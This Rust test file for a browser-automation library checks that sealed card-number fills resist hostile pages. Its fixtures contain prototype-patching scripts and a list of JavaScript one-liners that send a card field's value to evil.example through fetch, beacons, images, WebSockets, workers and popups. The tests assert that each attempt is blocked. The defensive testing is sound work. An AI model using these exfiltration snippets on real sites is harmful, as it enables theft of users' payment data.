//! Sealed fills on pages that try to divert them.

use crate::support::{Open, Server, events_with, launch, ref_of, tab};
use browser_signals::playwright::{BridgeError, Browser, ObservationTarget, PageEvent, Tab};
use browser_signals::{Container, Observed, SealedFill, SealedValue, Snapshot};

const CARD: &str = "4000056655665556";

/// A fill of the controls with these names, for the form in a snapshot.
pub fn sealed(seen: &Observed<Snapshot>, values: &[(&str, &str)]) -> SealedFill {
    let control = |name: &str| seen.controls.iter().find(|it| it.name == name).expect("a control").node;
    SealedFill {
        container_id: seen.container_id.clone(),
        frame: seen.frame.clone(),
        document: seen.document.known().expect("a document").clone(),
        origin: seen.origin.known().expect("an origin").clone(),
        form: seen.form,
        destination: seen.destination.known().expect("a destination").clone(),
        embedded: None,
        values: values
            .iter()
            .map(|(name, value)| (control(name), SealedValue::new(value.as_bytes())))
            .collect(),
        made: Vec::new(),
    }
}

pub async fn page(browser: &Browser, server: &Server, body: &str) -> Tab {
    let tab = tab(browser, server, Container::T2).await;
    show(&tab, server, body).await;
    tab
}

async fn show(tab: &Tab, server: &Server, body: &str) {
    let html = format!("<!doctype html><title>t</title>{body}<p id=log></p>");
    server.page("shop.example", "/", &html);
    tab.open(&server.url("shop.example", "/")).await.expect("the page opens");
}

pub async fn form(tab: &Tab) -> Observed<Snapshot> {
    let text = tab.read(&Open).await.expect("text").text;
    tab.observe(ObservationTarget::Form(&ref_of(&text, "\"Card\""))).await.expect("a snapshot")
}

/// Clicks the button that makes the page change itself.
async fn change(tab: &Tab) {
    let text = tab.read(&Open).await.expect("text").text;
    let button = ref_of(&text, "\"Change\"");
    let seen = tab.observe(ObservationTarget::Element(&button)).await.expect("a snapshot");
    tab.click(&button, &seen).await.expect("clicked");
}

async fn holds_card(tab: &Tab) -> bool {
    tab.html_for_canary_search().await.expect("the documents").contains(CARD)
}

const FORM: &str = r#"<form action="/pay" method="post"><input aria-label="Card" name="card">
<select name="month"><option value="">-</option><option value="01">01 January</option></select>
<textarea name="note" aria-label="Note"></textarea><input name="code" maxlength="3" aria-label="Code">
<button>Pay</button></form>"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_search_takes_no_sealed_value_and_a_text_area_does() {
    let server = Server::start();
    let browser = launch(&server).await;
    let html = r#"<form action="/pay" method="post"><input type="search" name="find" aria-label="Find">
        <textarea name="street" aria-label="Street"></textarea><button>Pay</button></form>"#;
    let tab = page(&browser, &server, html).await;
    let text = tab.read(&Open).await.expect("text").text;
    let seen = tab.observe(ObservationTarget::Form(&ref_of(&text, "\"Street\""))).await.expect("a snapshot");
    let find = tab.fill(sealed(&seen, &[("street", CARD), ("find", CARD)])).await;
    assert_eq!(find.err(), Some(BridgeError::Diverted));
    let street = tab.fill(sealed(&seen, &[("street", CARD)])).await;
    assert_eq!(street.map(|report| report.controls), Ok(1));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plain_form_is_filled_once_and_submitted() {
    let server = Server::start();
    let browser = launch(&server).await;
    let tab = page(&browser, &server, FORM).await;
    server.page("shop.example", "/pay", "<title>Thanks</title>");
    let seen = form(&tab).await;

    let code = tab.fill(sealed(&seen, &[("card", CARD), ("code", "12345")])).await;
    assert_eq!(code.err(), Some(BridgeError::NotApplicable), "longer than the control");
    let month = tab.fill(sealed(&seen, &[("card", CARD), ("month", "March")])).await;
    assert_eq!(month.err(), Some(BridgeError::NotApplicable), "no such option");
    assert!(!holds_card(&tab).await, "all or none");

    let report = tab.fill(sealed(&seen, &[("card", CARD), ("month", "01 january"), ("code", "123")])).await;
    assert_eq!(report.expect("filled").controls, 3);
    assert!(holds_card(&tab).await);
    let text = tab.read(&Open).await.expect("text").text;
    assert!(!text.contains(CARD) && text.contains("\"Card\" [ref=e2]: filled"), "{text}");
    assert!(!text.contains("[selected]"), "a chosen option may be a filled value:\n{text}");
    let button = ref_of(&text, "\"Pay\"");
    let decided = tab.observe(ObservationTarget::Element(&button)).await.expect("a snapshot");
    tab.submit(&button, &decided).await.expect("submitted");
    let all = server.requests_with(|all| all.iter().any(|it| it.method == "POST")).await;
    let sent = all.into_iter().rfind(|it| it.method == "POST").expect("a post");
    assert_eq!(
        (sent.path.as_str(), sent.body.as_str()),
        ("/pay", format!("card={CARD}&month=01&note=&code=123").as_str())
    );
    browser.close().await;
}

const HOSTILE: &str = r#"<form id=f action="/pay" method="post"><input aria-label="Card" name="card">
<input name="action" value="x"><input name="method"><input name="elements"><input name="getAttribute">
<textarea id=chat></textarea><button>Pay</button></form>
<script>
for (const type of [HTMLInputElement, HTMLTextAreaElement])
  Object.defineProperty(type.prototype, 'value', { get() { return ''; }, set(v) { log.textContent += v; } });
Object.defineProperty(HTMLFormElement.prototype, 'action', { get() { return 'http://evil.example/'; } });
Element.prototype.getAttribute = () => 'cc-number';
Document.prototype.querySelectorAll = () => [chat];
Node.prototype.contains = () => true;
WeakMap.prototype.get = () => 1;
Array.prototype.push = function () { return 1; };
Reflect.apply = () => { throw 1; };
f.card.addEventListener('focus', () => chat.focus());
</script>"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn patched_prototypes_and_clobbered_forms_do_not_matter() {
    let server = Server::start();
    let browser = launch(&server).await;
    let tab = page(&browser, &server, HOSTILE).await;
    let seen = form(&tab).await;
    let destination = seen.destination.known().expect("a destination");
    assert_eq!((&*destination.path, &*destination.method), ("/pay", "POST"));
    assert_eq!(destination.origin, server.origin("shop.example"));
    let card = seen.controls.iter().find(|it| it.name == "card").expect("a control");
    assert_eq!(card.autocomplete, "");
    tab.fill(sealed(&seen, &[("card", CARD)])).await.expect("filled");
    let html = tab.html_for_canary_search().await.expect("the documents");
    assert_eq!(html.matches(CARD).count(), 1, "in its control and nowhere else:\n{html}");
    browser.close().await;
}

/// A value that a form's own rules refuse is taken out before any script of the page sees it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_made_value_is_checked_by_the_rules_of_its_control() {
    let server = Server::start();
    let browser = launch(&server).await;
    let body = r#"<form action="/pay" method="post"><input aria-label="Card" name="card" pattern="[a-z]+" minlength="3"
        passwordrules="minlength: 3" oninput="log.textContent+=value"><button>Pay</button></form>"#;
    for (value, is_made, done) in [
        (CARD, true, Err(BridgeError::RuledOut)),
        ("kettle", true, Ok(())),
        // A stored value is the user's, and the form says itself what it does not take.
        (CARD, false, Ok(())),
    ] {
        let tab = page(&browser, &server, body).await;
        let seen = form(&tab).await;
        let words = &seen.controls[0].words;
        let rules = (words.pattern.as_str(), words.password_rules.as_str(), words.min_length);
        assert_eq!(rules, ("[a-z]+", "minlength: 3", Some(3)));
        let mut fill = sealed(&seen, &[("card", value)]);
        if is_made {
            fill.made = fill.values.iter().map(|(node, _)| *node).collect();
        }
        assert_eq!(tab.fill(fill).await.map(drop), done);
        let html = tab.html_for_canary_search().await.expect("the documents");
        // Once in its control and once in the page's log, or nowhere.
        assert_eq!(html.matches(value).count(), if done.is_ok() { 2 } else { 0 }, "{html}");
    }
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_form_that_changed_since_the_decision_is_not_filled() {
    let server = Server::start();
    let browser = launch(&server).await;
    let card = r#"<input aria-label="Card" name="card" id=c>"#;
    let change_to = |change: &str| {
        format!(
            r#"<form id=f action="/pay" method="post">{card}<button id=b>Pay</button></form>
            <form id=other action="/pay" method="post"></form><button onclick="{change}">Change</button>"#
        )
    };
    let tab = tab(&browser, &server, Container::T2).await;
    for (script, error) in [
        ("f.action='http://pay.example:PORT/steal'", BridgeError::Diverted),
        ("f.action='/steal'", BridgeError::Diverted),
        ("f.method='get'", BridgeError::Diverted),
        ("b.formAction='http://evil.example/'", BridgeError::Diverted),
        ("c.replaceWith(c.cloneNode())", BridgeError::Stale),
        ("c.setAttribute('form','other')", BridgeError::Diverted),
        ("c.type='hidden'", BridgeError::Diverted),
        ("c.type='checkbox'", BridgeError::Diverted),
        ("c.style.opacity=0", BridgeError::Occluded),
        ("c.style.visibility='hidden'", BridgeError::Occluded),
        ("c.style.position='fixed';c.style.left='-900px'", BridgeError::Occluded),
        ("f.style.transform='scale(0.001)'", BridgeError::Occluded),
        (
            "document.body.insertAdjacentHTML('beforeend','<div style=position:fixed;inset:0></div>')",
            BridgeError::Occluded,
        ),
        ("f.inert=true", BridgeError::Occluded),
        (
            "document.body.insertAdjacentHTML('beforeend','<dialog id=d>x</dialog>');d.showModal()",
            BridgeError::Occluded,
        ),
        (
            "document.body.insertAdjacentHTML('beforeend','<p id=p popover=manual style=width:100vw;height:100vh>');p.showPopover()",
            BridgeError::Occluded,
        ),
        ("c.readOnly=true", BridgeError::NotApplicable),
        ("c.addEventListener('input',()=>{c.value='1'})", BridgeError::Diverted),
        ("c.addEventListener('change',()=>{f.action='http://evil.example/'})", BridgeError::Diverted),
        // The page has seen the value.
        ("c.addEventListener('input',()=>c.remove())", BridgeError::Diverted),
        ("location.reload()", BridgeError::Stale),
        ("location.href='/?again'", BridgeError::Stale),
    ] {
        show(&tab, &server, &change_to(script)).await;
        let seen = form(&tab).await;
        change(&tab).await;
        assert_eq!(tab.fill(sealed(&seen, &[("card", CARD)])).await.err(), Some(error), "{script}");
        assert!(!holds_card(&tab).await, "{script}");
    }
    let one = page(&browser, &server, FORM).await;
    let two = page(&browser, &server, FORM).await;
    let seen = form(&one).await;
    assert_eq!(
        two.fill(sealed(&seen, &[("card", CARD)])).await.err(),
        Some(BridgeError::Stale),
        "another container"
    );
    browser.close().await;
}

const SENDERS: &str = r#"<form id=f action="/pay" method="post"><input aria-label="Card" name="card" id=c>
<button id=b>Pay</button></form><button onclick="go()">Change</button><iframe id=i></iframe>"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_fill_no_request_goes_to_another_destination() {
    let server = Server::start();
    let browser = launch(&server).await;
    server.page("pay.example", "/in", "<p>in</p>");
    let tab = tab(&browser, &server, Container::T2).await;
    for script in [
        "f.action='http://evil.example:PORT/x';f.submit()",
        "f.action='http://pay.example:PORT/x';f.submit()",
        "fetch('http://evil.example:PORT/x',{method:'POST',body:c.value,mode:'no-cors'})",
        "fetch('http://pay.example:PORT/x',{method:'POST',body:c.value,mode:'no-cors'})",
        "navigator.sendBeacon('http://evil.example:PORT/x',c.value)",
        "new Image().src='http://evil.example:PORT/x?'+c.value",
        "location.href='http://evil.example:PORT/x?'+c.value",
        "window.open('http://evil.example:PORT/x?'+c.value)",
        "document.body.insertAdjacentHTML('beforeend','<iframe src=\\'http://evil.example:PORT/x?'+c.value+'\\'></iframe>')",
        "document.head.insertAdjacentHTML('beforeend','<link rel=stylesheet href=\\'http://evil.example:PORT/x?'+c.value+'\\'>')",
        "new Worker(URL.createObjectURL(new Blob(['fetch(`http://evil.example:PORT/x?'+c.value+'`)'])))",
        "new WebSocket('ws://evil.example:PORT/x?'+c.value)",
        "open('http://evil.example:PORT/x?'+c.value,'','noopener')",
        "document.body.insertAdjacentHTML('beforeend','<a target=_blank rel=noopener href=\\'http://evil.example:PORT/x?'+c.value+'\\' id=a></a>');a.click()",
        "i.contentWindow.open('http://evil.example:PORT/x?'+c.value)",
        "f.target='_blank';f.action='http://evil.example:PORT/x';f.submit()",
        "fetch('http://evil.example:PORT/x',{method:'POST',body:c.value,mode:'no-cors',keepalive:true})",
        "document.body.appendChild(document.createElement('iframe')).contentWindow.eval('new WebSocket(`ws://evil.example:PORT/x?'+c.value+'`)')",
        "new Worker(URL.createObjectURL(new Blob(['new WebSocket(`ws://evil.example:PORT/x?'+c.value+'`)'])))",
        "const w=window.open('about:blank');w.fetch('http://evil.example:PORT/x?'+c.value)",
        "navigator.serviceWorker.register('/sw.js')",
        "new SharedWorker('data:text/javascript,new WebSocket(\"ws://evil.example:PORT/x\")')",
        "new EventSource('http://evil.example:PORT/x?'+c.value)",
    ] {
        show(&tab, &server, &format!("{SENDERS}<script>function go(){{ {script} }}</script>")).await;
        let seen = form(&tab).await;
        tab.fill(sealed(&seen, &[("card", CARD)])).await.expect("filled");
        let text = tab.read(&Open).await.expect("text").text;
        let button = ref_of(&text, "\"Change\"");
        let decided = tab.observe(ObservationTarget::Element(&button)).await.expect("a snapshot");
        let _blocked = tab.click(&button, &decided).await;
        // A raised container has no sockets.
        let silent = script.contains("Socket") || script.contains("serviceWorker");
        let refused =
            |it: &PageEvent| matches!(it, PageEvent::RequestBlocked { .. } | PageEvent::PopupRefused);
        let recorded = events_with(&tab, |all| silent || all.iter().any(refused)).await;
        let leaked =
            server.requests().into_iter().any(|it| it.path.contains("/x") && it.host != "shop.example");
        assert!(!leaked, "{script}");
        assert!(silent || recorded.iter().any(refused), "{script}: {recorded:?}");
    }
    browser.close().await;
}
